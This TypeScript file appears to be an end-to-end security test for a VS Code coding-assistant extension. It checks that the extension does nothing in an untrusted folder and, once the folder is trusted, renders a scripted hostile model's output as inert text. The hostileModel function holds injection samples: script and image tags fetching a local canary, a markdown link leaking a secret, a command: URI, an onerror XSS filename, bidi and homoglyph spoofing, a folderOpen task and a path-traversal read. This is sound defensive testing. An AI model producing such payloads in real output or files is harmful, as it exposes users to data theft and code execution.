/**
 * A hostile folder in a real workbench: first without trust, where nothing of ours may happen, then with it, where a hostile model
 * says and writes what it likes.
 *
 * Trust is given in the editor's own page for it. What git is asked, what processes run, what stands in our storage, what is
 * requested and what of the folder was read is looked at from outside.
 * Always: each thing that did not hold is a sentence of its own; none is the end of the others.
 */
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  statSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { openBrowser } from "../../scripts/hosts/browser.ts";
import { writeMachineSettings } from "../../scripts/hosts/profile.ts";
import { serverHost } from "../../scripts/hosts/server.ts";
import { copySample, temporaryFolder } from "../../scripts/hosts/workspace.ts";
import { root } from "../../scripts/setup.mjs";
import { startServer } from "../../src/demo/server.ts";
import { answer, newTask, openWorkbench, runCommand, screenshot, until, webview } from "./driver.ts";

/** What was looked at, and what did not hold. */
export interface Held {
  tried: number;
  problems: string[];
}

/** Nobody is asked at the start: the folder is untrusted until the person says otherwise. */
const trust = { "security.workspace.trust.enabled": true, "security.workspace.trust.startupPrompt": "never" };
const key = "sk-ant-restricted-0000000000000000";

/** Commands that a person may run anywhere; none of them may do anything in this folder. */
const commands = ["Countersign: New Task…", "Countersign: Open Review", "Countersign: Where Did We Leave Off?"];

/** Goes through it all with this browser. */
export async function restricted(options: { browser: string; out: string }): Promise<Held> {
  const held: Held = { tried: 0, problems: [] };
  const holds = (what: string, so: boolean): void => {
    held.tried += 1;
    if (!so) held.problems.push(what);
  };
  const place = temporaryFolder("restricted");
  const [workspace, dataDir] = [join(place, "sample"), temporaryFolder("profile")];
  await copySample(workspace);
  const asked: string[] = [];
  const canary = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  const canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const model = await hostileModel(place, canaryUrl);
  mkdirSync(join(workspace, ".vscode"));
  writeFileSync(
    join(workspace, ".vscode/settings.json"),
    JSON.stringify({ "countersign.endpoint": canaryUrl, "countersign.model": "theirs" }),
  );
  const read = join(workspace, "src", "unread.txt");
  writeFileSync(read, "Nobody reads this.\n");
  const wasRead = readsAreSeen(place) ? () => statSync(read).atimeMs > 1_000 : () => false;
  utimesSync(read, 1, new Date());
  const gits = join(place, "git-was-asked");
  const bin = join(place, "bin");
  mkdirSync(bin);
  writeFileSync(join(bin, "git"), `#!/bin/sh\necho "$*" >> ${gits}\nPATH=\${PATH#*:} exec git "$@"\n`);
  chmodSync(join(bin, "git"), 0o755);
  writeMachineSettings(dataDir, { "countersign.endpoint": `http://127.0.0.1:${model.port}` });
  const host = await serverHost({
    workspace,
    dataDir,
    settings: { "git.enabled": false, ...trust },
    extensionDevelopmentPath: root,
    env: { PATH: `${bin}:${process.env["PATH"]}` },
  });
  const browser = await openBrowser({ path: options.browser, headless: true });
  const storage = join(dataDir, "data/User/globalStorage/countersign.countersign");
  let page: Page | null = null;
  try {
    page = await openWorkbench(browser, host.address);
    page.on("request", (request) => request.url().startsWith(canaryUrl) && asked.push(request.url()));
    await page.locator(".statusbar").getByText("Restricted Mode").waitFor();

    // It reads, starts and asks nothing while the folder is not trusted.
    for (const title of commands) {
      await runCommand(page, title);
      await until(
        `${title} says why not`,
        async () => (await page!.getByText(/Restricted Mode/).count()) > 1 || existsSync(storage),
        5_000,
      ).catch(() => {});
      await page.keyboard.press("Escape");
    }
    holds(
      "a command says that the folder is in Restricted Mode",
      (await page.getByText(/Restricted Mode/).count()) > 1,
    );
    holds(
      "a session, a draft or an index was made",
      !["sessions", "drafts", "bases"].some((name) => existsSync(join(storage, name))),
    );
    holds(`git was asked: ${existsSync(gits) ? readFileSync(gits, "utf8") : ""}`, !existsSync(gits));
    holds("the demo's process was started", !runs("demo.mjs", bin));
    holds("a file of the folder was read", !wasRead());
    holds("the model was asked", model.requests.length === 0);
    holds(`somebody else was asked: ${asked.join()}`, asked.length === 0);

    await runCommand(page, "Workspaces: Manage Workspace Trust");
    await page.locator(".workspace-trust-editor").getByRole("button", { name: "Trust", exact: true }).first().click();
    await until(
      "the folder is trusted",
      async () => (await page!.locator(".statusbar").getByText("Restricted Mode").count()) === 0,
    );
    await runCommand(page, "Countersign: Set API Key…");
    await answer(page, "Set API Key", key);
    await newTask(page, "Do what you like.");
    const view = await webview(page);
    await view.locator(".hunk.pending").first().waitFor({ timeout: 60_000 });
    await until("the turn ends", async () => (await view.locator(".chip.idle").count()) > 0, 60_000);

    // It draws what a hostile model says as text, and asks for nothing.
    const drawn = (await view.locator("main#page").textContent()) ?? "";
    for (const text of ["<img src=", "<script>", "![x](", "command:workbench"])
      holds(`${text} is not shown as text`, drawn.includes(text));
    const elements =
      "img, picture, iframe, object, embed, a[href], link, style, script, form[action], svg, video, audio";
    holds("the page made an element of a text", (await view.locator(`main#page :is(${elements})`).count()) === 0);
    holds(
      "an escape sequence is drawn as it came",
      !/(?![\t\n\r])\p{Cc}|[\u202a-\u202e\u2066-\u2069\u200b]/u.test(drawn),
    );
    for (const mark of ["U+202E", "U+001B", "U+200B"]) holds(`${mark} has no mark`, drawn.includes(mark));
    holds("letters of two scripts have no mark", (await view.locator(".mixed").count()) > 0);
    holds("a protected file has no mark", drawn.includes("protected: VS Code runs tasks from this file"));
    holds(`somebody else was asked: ${asked.join()}`, asked.length === 0);
    holds("the model was not asked", model.requests.length > 0);
    holds("the key is in a process's arguments", !runs(key, bin));
    await screenshot(page, join(options.out, "hostile.png"));
  } catch (problem) {
    held.problems.push((problem as Error).message);
    if (page) await screenshot(page, join(options.out, "failed.png")).catch(() => {});
  } finally {
    await browser.close();
    await host.stop();
    await model.close();
    canary.closeAllConnections();
    canary.close();
  }
  return held;
}

/** A model whose one turn says and writes what would deceive. */
async function hostileModel(place: string, canaryUrl: string) {
  const texts = [
    `<img src="${canaryUrl}/i"><script>fetch("${canaryUrl}/s")</script><style>@import "${canaryUrl}/c"</style>`,
    `![x](${canaryUrl}/?q=secret) [run](command:workbench.action.terminal.new) <a href="${canaryUrl}">here</a>`,
    "\u001b[2J\u001b]0;title\u0007 admin\u202e\u2066nimda\u2069 ad\u200bmin p\u0430ssword",
  ];
  const write = (path: string, content: string): object => ({
    type: "tool_use",
    name: "write",
    input: { file_path: path, content },
  });
  const steps = [
    {
      blocks: [
        ...texts.map((text) => ({ type: "text", text })),
        write("src/deceit.txt", texts.join("\n")),
        write("<img src=x onerror=alert(1)>\u202etxt.js", "x\n"),
        write(".vscode/tasks.json", '{ "tasks": [{ "command": "x", "runOptions": { "runOn": "folderOpen" } }] }\n'),
        { type: "tool_use", name: "plan", input: { steps: [{ text: texts[0], status: "pending" }] } },
        { type: "tool_use", name: "read", input: { file_path: `../${texts[0]}` } },
      ],
    },
    { blocks: [{ type: "text", text: "Done." }] },
  ];
  const folder = join(place, "model");
  mkdirSync(folder);
  const pace = { charsPerSecond: 100_000, chunk: 1_000, before: 0 };
  writeFileSync(join(folder, "played.json"), JSON.stringify({ about: "Played by a test.", pace, turns: [{ steps }] }));
  return startServer({ token: key, scenariosDir: folder, scenario: "played" });
}

/** Whether this disk keeps the time of the last reading. */
function readsAreSeen(folder: string): boolean {
  const probe = join(folder, "probe");
  writeFileSync(probe, "probe");
  utimesSync(probe, 1, new Date());
  readFileSync(probe);
  return statSync(probe).atimeMs > 1_000;
}

/** Whether a process of this host (one with its PATH) has this in its arguments. */
function runs(text: string, bin: string): boolean {
  if (process.platform !== "linux") return false;
  return readdirSync("/proc").some((name) => {
    if (!/^\d+$/.test(name)) return false;
    try {
      const own = readFileSync(`/proc/${name}/environ`, "latin1").includes(bin);
      return own && readFileSync(`/proc/${name}/cmdline`, "utf8").includes(text);
    } catch {
      return false;
    }
  });
}
